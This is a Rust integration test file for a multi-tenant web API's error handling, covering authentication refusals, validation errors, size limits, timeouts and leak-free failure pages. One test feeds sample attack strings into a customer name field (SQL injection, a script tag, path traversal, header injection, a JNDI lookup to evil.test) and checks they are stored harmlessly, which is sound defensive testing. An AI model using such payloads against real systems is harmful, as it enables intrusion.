//! What is refused, and in which words (API-5).

use std::time::Duration;

use axum::{body::Body, http::Method};
use futures_util::stream;
use http_api::HttpSettings;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use crate::{
    client::Ask,
    web::{OPERATOR, Web},
};

#[tokio::test]
async fn nobody_is_told_to_sign_in() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    for path in [
        "/api/v1/me",
        "/api/v1/customers",
        "/api/v1/tenant/config",
        "/api/v1/admin/tenants",
        "/api/nowhere",
    ] {
        let reply = web.send(Ask::get(&acme.host(), path)).await;
        assert_eq!(reply.header("www-authenticate"), Some("Bearer"), "{path}");
        let problem = reply.expect_problem(401, "unauthenticated");
        assert_eq!(problem["type"], "urn:tenantry:problem:unauthenticated");
        assert_eq!(problem["title"], "Sign in to go on.");
    }
    // Pages lead to the door, and back.
    let page = web
        .send(Ask::get(
            &acme.host(),
            "/customers?q=a b".replace(' ', "%20").as_str(),
        ))
        .await
        .expect(303);
    assert_eq!(
        page.header("location"),
        Some("/sign-in?next=%2Fcustomers%3Fq%3Da%2520b")
    );
}

#[tokio::test]
async fn what_is_not_there_and_what_is_not_taken() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    let ask = |method: Method, path: &str| Ask::new(method, &acme.host(), path).bearer(&token);
    web.send(ask(Method::GET, "/api/v1/nowhere"))
        .await
        .expect_problem(404, "not_found");
    web.send(ask(Method::GET, "/api/v1/customers/"))
        .await
        .expect_problem(404, "not_found");
    web.send(ask(Method::GET, "/api/v2/customers"))
        .await
        .expect_problem(404, "not_found");
    let refused = web.send(ask(Method::PATCH, "/api/v1/customers")).await;
    assert_eq!(refused.header("allow"), Some("GET,HEAD,POST"));
    refused.expect_problem(405, "method_not_allowed");
}

#[tokio::test]
async fn a_body_that_cannot_be_read_is_refused() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    let post = |media_type: &str, body: &str| {
        Ask::post(&acme.host(), "/api/v1/customers")
            .bearer(&token)
            .body(media_type, body.to_owned())
    };
    web.send(post("text/plain", "{}"))
        .await
        .expect_problem(415, "unsupported_media_type");
    web.send(post("application/x-www-form-urlencoded", "name=a"))
        .await
        .expect_problem(415, "unsupported_media_type");
    for body in ["", "{", "[]", "null", "{} {}", "\u{feff}{}"] {
        web.send(post("application/json", body))
            .await
            .expect_problem(400, "bad_request");
    }
}

#[tokio::test]
async fn every_wrong_field_is_named() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    for (body, fields) in [
        (json!({}), vec!["name"]),
        (
            json!({ "name": " ", "email": "nobody", "phone": "call me" }),
            vec!["email", "name", "phone"],
        ),
        (json!({ "name": 7 }), vec!["name"]),
        (json!({ "name": null }), vec!["name"]),
        (json!({ "name": ["a"] }), vec!["name"]),
        (json!({ "name": "a", "surname": "b" }), vec!["surname"]),
        // I-40: what the caller may not set is no field at all.
        (
            json!({ "name": "a", "id": "0192f0c1-2345-8abc-8def-0123456789ab" }),
            vec!["id"],
        ),
        (
            json!({ "name": "a", "tenant_id": "0192f0c1-2345-8abc-8def-0123456789ab" }),
            vec!["tenant_id"],
        ),
        (json!({ "name": "a\u{0}b" }), vec!["name"]),
        (json!({ "name": "a\u{202e}b" }), vec!["name"]),
        (json!({ "name": "a".repeat(201) }), vec!["name"]),
        (
            json!({ "name": "a", "notes": "n".repeat(4001) }),
            vec!["notes"],
        ),
    ] {
        let ask = Ask::post(&acme.host(), "/api/v1/customers")
            .bearer(&token)
            .json(&body);
        let problem = web.send(ask).await.expect_problem(422, "invalid");
        let named: Vec<&str> = problem["fields"]
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(named, fields, "{body}");
    }
}

/// The fields of the wizard's draft under the names that the API has for them.
#[tokio::test]
async fn nested_fields_are_named_as_they_were_sent() {
    let web = Web::new().await;
    let operator = web.operator().await;
    for (body, fields) in [
        (
            json!({ "slug": "Ä", "name": "", "plan": "", "template": "", "admin": { "name": "", "email": "x", "password": "short" } }),
            vec![
                "admin.email",
                "admin.name",
                "admin.password",
                "name",
                "plan",
                "slug",
                "template",
            ],
        ),
        (json!({ "admin": { "role": "owner" } }), vec!["admin.role"]),
        (json!({ "admin": "me" }), vec!["admin"]),
        (json!({ "demo_data": "yes" }), vec!["demo_data"]),
    ] {
        let ask = Ask::post(OPERATOR, "/api/v1/admin/tenants")
            .session(&operator)
            .json(&body);
        let problem = web.send(ask).await.expect_problem(422, "invalid");
        let named: Vec<&str> = problem["fields"]
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(named, fields, "{body}");
        assert!(
            !problem.to_string().contains("short"),
            "a password came back: {problem}"
        );
    }
}

#[tokio::test]
async fn hostile_text_is_stored_as_it_is_and_shown_as_it_is() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    for name in [
        "Robert'); DROP TABLE customers;--",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b",
        "Zoë 🦀 ｆｕｌｌ e\u{301}",
        "${jndi:ldap://evil.test}",
    ] {
        let ask = Ask::post(&acme.host(), "/api/v1/customers")
            .bearer(&token)
            .json(&json!({ "name": name }));
        assert_eq!(web.send(ask).await.expect(201).json()["name"], name);
        let query = percent(name);
        let found = Ask::get(&acme.host(), &format!("/api/v1/customers?q={query}")).bearer(&token);
        assert_eq!(
            web.send(found).await.expect(200).json()["items"][0]["name"],
            name
        );
    }
}

fn percent(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

#[tokio::test]
async fn a_wrong_query_is_named() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    for (query, field) in [
        ("limit=0", "limit"),
        ("limit=201", "limit"),
        ("limit=many", "limit"),
        ("sort=size", "sort"),
        ("cursor=7b7d", "cursor"),
        ("cursor=nonsense", "cursor"),
    ] {
        let ask = Ask::get(&acme.host(), &format!("/api/v1/customers?{query}")).bearer(&token);
        let problem = web.send(ask).await.expect_problem(422, "invalid");
        assert!(problem["fields"][field].is_string(), "{query}: {problem}");
    }
    let twice = Ask::get(&acme.host(), "/api/v1/customers?q=a&q=b").bearer(&token);
    web.send(twice).await.expect_problem(400, "bad_request");
}

/// I-63: no larger than allowed, whether the length is announced or not.
#[tokio::test]
async fn an_oversized_body_is_refused() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    let post = |body: Body| {
        Ask::post(&acme.host(), "/api/v1/customers")
            .bearer(&token)
            .body("application/json", body)
    };
    let large = json!({ "name": "a", "notes": "n".repeat(1024 * 1024) }).to_string();
    web.send(post(large.into()).header("content-length", "1048700"))
        .await
        .expect_problem(413, "too_large");
    let pieces = stream::iter((0..2048).map(|_| Ok::<_, std::io::Error>(vec![b' '; 1024])));
    web.send(post(Body::from_stream(pieces)))
        .await
        .expect_problem(413, "too_large");
}

#[tokio::test]
async fn a_body_that_does_not_arrive_is_refused() {
    let settings = HttpSettings {
        body_patience: Duration::from_millis(50),
        ..HttpSettings::default()
    };
    let web = Web::with(settings).await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    let never = Body::from_stream(stream::pending::<Result<Vec<u8>, std::io::Error>>());
    let ask = Ask::post(&acme.host(), "/api/v1/customers")
        .bearer(&token)
        .body("application/json", never);
    web.send(ask).await.expect_problem(408, "request_timeout");
}

/// PostgreSQL gone: 503 with a moment to wait, in the form of the area, and nothing of the cause.
#[tokio::test]
async fn nothing_internal_leaves_the_house() {
    let web = Web::new().await;
    let acme = web.plane.tenant("acme").build().await;
    let token = web.owner_token(&acme).await;
    let session = acme.session(&acme.email("owner")).await;
    web.plane.database().close().await;
    let api = web
        .send(Ask::get(&acme.host(), "/api/v1/customers").bearer(&token))
        .await;
    assert_eq!(api.header("retry-after"), Some("2"));
    let page = web
        .send(Ask::get(&acme.host(), "/").session(&session))
        .await
        .expect(503);
    for text in [api.text(), page.text()] {
        for leak in [
            "sqlx",
            "pool",
            "Pool",
            "postgres",
            "PostgreSQL",
            "platform.",
            "panicked",
            ".rs",
        ] {
            assert!(!text.contains(leak), "{leak}: {text}");
        }
    }
    let problem: Value = api.expect_problem(503, "unavailable");
    let members: Vec<&String> = problem.as_object().unwrap().keys().collect();
    assert_eq!(members, ["code", "request_id", "status", "title", "type"]);
}

#[tokio::test]
async fn a_panic_is_ours_to_know() {
    let web = Web::new().await;
    let page = web
        .send(Ask::get(OPERATOR, "/link/panics"))
        .await
        .expect(500);
    assert_eq!(
        page.header("content-type"),
        Some("text/html; charset=utf-8")
    );
    let told = web
        .send(Ask::post(OPERATOR, "/fn/door/panics"))
        .await
        .expect(500);
    assert_eq!(told.json()["code"], "internal");
    for reply in [page, told] {
        assert!(!reply.text().contains("secret"), "{}", reply.text());
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
    }
}

#[tokio::test]
async fn an_answer_that_does_not_come_is_given_up() {
    let settings = HttpSettings {
        answer_patience: Duration::from_millis(100),
        ..HttpSettings::default()
    };
    let web = Web::with(settings).await;
    let page = web
        .send(Ask::get(OPERATOR, "/link/hangs"))
        .await
        .expect(503);
    assert_eq!(page.header("retry-after"), Some("2"));
    assert!(page.text().contains("Back in a moment"), "{}", page.text());
}
